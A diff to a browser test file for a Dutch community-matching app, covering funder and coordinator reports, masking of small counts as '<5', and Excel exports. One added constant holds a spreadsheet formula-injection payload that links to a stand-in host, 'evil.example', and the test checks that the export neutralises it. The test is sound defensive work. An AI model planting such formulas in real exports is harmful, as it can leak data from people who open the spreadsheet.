@@ -1,6 +1,7 @@
 """The coordinator compares the two Utrecht Zuid years and downloads the report; the
 funder sees only totals, small cells as "<5", in Chromium."""
 
+import datetime as dt
 import io
 import re
 from io import StringIO
@@ -57,8 +58,8 @@ def test_coordinator_compares_the_two_years_and_downloads_xlsx_and_pdf(page):
     with open(xlsx.value.path(), "rb") as handle:
         book = load_workbook(io.BytesIO(handle.read()))
     rows = [[c.value for c in row] for row in book["Bemiddelingen en koppelingen"].iter_rows()]
-    assert ["Bemiddelingen tussen bewoners", 48, 141, "2,9"] in rows
-    assert ["waarvan actief ondersteund door de makelaar", 35, 76, "2,2"] in rows
+    assert ["Bemiddelingen tussen bewoners", 48, 141, 2.9] in rows
+    assert ["waarvan actief ondersteund door de makelaar", 35, 76, 2.2] in rows
 
     with page.expect_download() as pdf:
         page.click("text=Verslag als PDF (voor de gemeente)")
@@ -70,17 +71,123 @@ def test_coordinator_compares_the_two_years_and_downloads_xlsx_and_pdf(page):
     assert "1-7-2005 t/m 30-6-2006" in text
 
 
-def test_funder_sees_small_cells_as_less_than_five_and_no_names(page):
+def test_funder_chooses_fixed_periods_and_sees_small_cells_as_less_than_five(page):
+    from tijdvoorelkaar.areas.models import Area
+    from tijdvoorelkaar.reports.services import kpi
+
     _setup()
+    area = Area.objects.get(slug="utrecht-zuid-2005")
+    exact = [kpi(area, dt.date(year, 1, 1), dt.date(year, 12, 31)) for year in (2006, 2007)]
     sign_in_with_password(
         page, "utrecht-zuid-2005", "financier@utrecht-zuid.test", "tijdvoorelkaar"
     )
-    _compare_years(page)
+    page.goto("/utrecht-zuid-2005/verslag/?van=2005-07-01&tot=2006-06-30")
+    assert "alleen over een vaste periode" in page.inner_text("main")
+    assert_accessible(page)
+    page.select_option("#id_periode", "2006-01-01_2006-12-31")
+    page.select_option("#id_vergelijk", "2007-01-01_2007-12-31")
+    page.click("button:has-text('Verslag tonen')")
+    page.wait_for_load_state()
+    assert page.url.endswith(
+        "?van=2006-01-01&tot=2006-12-31&vergelijk_van=2007-01-01&vergelijk_tot=2007-12-31"
+    )
     assert "Aantallen kleiner dan 5" in page.content()
-    assert _row(page, "bemiddelingen", "Bemiddelingen tussen bewoners") == ["48", "141", "2,9"]
+    a, b = exact[0]["mediations_total"], exact[1]["mediations_total"]
+    factor = f"{round(b / a, 1)}".replace(".", ",")
+    assert _row(page, "bemiddelingen", "Bemiddelingen tussen bewoners") == [str(a), str(b), factor]
     referrals = _row(page, "verwijzers", "Huisartsenpraktijk Hoograven")
     assert referrals == ["<5", "<5", ""]
     main = page.inner_text("main")
     for name in ("Deelnemer 1", "Petra", "Sanne", "Jansen"):
         assert name not in main
     assert_accessible(page)
+    page.set_viewport_size({"width": 390, "height": 844})
+    assert_accessible(page)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak","Klik hier")'
+
+
+def _download_xlsx(page):
+    from openpyxl import load_workbook
+
+    with page.expect_download() as xlsx:
+        page.click("text=Alle tabellen als Excel (XLSX)")
+    with open(xlsx.value.path(), "rb") as handle:
+        return load_workbook(io.BytesIO(handle.read()))
+
+
+def test_funder_and_coordinator_download_the_same_year_of_a_small_area(page):
+    from tijdvoorelkaar.accounts.models import User
+    from tijdvoorelkaar.core import clock, spreadsheet
+    from tijdvoorelkaar.marketplace.tests.factories import participant
+    from tijdvoorelkaar.organisations.models import IncomingReferral
+    from tijdvoorelkaar.organisations.services import accept_referral
+    from tijdvoorelkaar.reports import funder, periods, tables
+    from tijdvoorelkaar.reports.services import kpi
+    from tijdvoorelkaar.workspace.services import save_background
+
+    area = demo.seed()["utrecht-zuid"]
+    # A couple of residents more: one referred through the public form by someone who
+    # types a formula as organisation, one whose background the broker fills in.
+    page.goto("/utrecht-zuid/doorverwijzen/")
+    page.fill("#id_first_name", "Gerrit")
+    page.fill("#id_phone", "06 1111 2222")
+    page.fill("#id_organisation_name", EVIL)
+    page.fill("#id_referrer_name", "Dokter Smit")
+    page.check("#id_resident_consent")
+    page.click("button:has-text('Doorverwijzing versturen')")
+    page.wait_for_load_state()
+    assert "/doorverwijzen/verstuurd/" in page.url
+    accept_referral(
+        referral=IncomingReferral.objects.get(organisation_name=EVIL),
+        broker=User.objects.get(email="makelaar@utrecht-zuid.test"),
+    )
+    resident = participant(area, "Fatima")
+    save_background(
+        participant=resident,
+        broker=User.objects.get(email="makelaar@utrecht-zuid.test"),
+        data={"gender": "vrouw", "birth_year": 1948, "origin": "marokkaans"},
+    )
+
+    today = clock.today()
+    year = periods.FixedPeriod(periods.YEAR, today.year)
+    sign_in_with_password(page, "utrecht-zuid", "financier@utrecht-zuid.test", "tijdvoorelkaar")
+    page.goto("/utrecht-zuid/verslag/")
+    page.select_option("#id_periode", year.value)
+    page.click("button:has-text('Verslag tonen')")
+    page.wait_for_load_state()
+    book = _download_xlsx(page)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    ((figures, hidden),) = funder.funder_report(area, [year], today)
+    report = tables.build([figures], masked=True, hidden=[hidden])
+    for table in report.tables:
+        sheet = book[(table.sheet or table.title)[:31].replace(":", "")]
+        shown = {row[0].value: row[1].value for row in sheet.iter_rows(min_row=4)}
+        for row in table.rows:
+            value = shown[spreadsheet.neutralise(row.label)]
+            if report.is_hidden(row, 0):
+                assert value == "<5", (table.title, row.label)
+            else:
+                assert value != "<5", (table.title, row.label)
+                if row.kind == "count" and row.values[0] is not None:
+                    assert isinstance(value, int) and (value == 0 or value >= 5)
+    assert "Marokkaans" in [cell.value for cell in cells]
+
+    page.context.clear_cookies()
+    sign_in_with_password(page, "utrecht-zuid", "coordinator@utrecht-zuid.test", "tijdvoorelkaar")
+    page.goto(f"/utrecht-zuid/verslag/?van={year.start}&tot={year.end}")
+    book = _download_xlsx(page)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    exact = kpi(area, year.start, year.end)
+    people = {row[0].value: row[1].value for row in book["Deelnemers"].iter_rows(min_row=4)}
+    assert people["Nieuw aangemeld"] == exact["participants_new"]
+    assert people["Totaal aangemeld aan het eind van de periode"] == exact["participants_total"]
+    sheet = book["Samenstelling land van herkomst"]
+    origin = {row[0].value: row[1] for row in sheet.iter_rows(min_row=4)}
+    assert origin["Marokkaans"].value == exact["composition"]["origin"]["marokkaans"]
+    assert origin["Marokkaans"].data_type == "n"
+    sheet = next(sheet for sheet in book if sheet.title.startswith("Doorverwijzingen"))
+    assert "'" + EVIL in [row[0].value for row in sheet.iter_rows(min_row=4)]
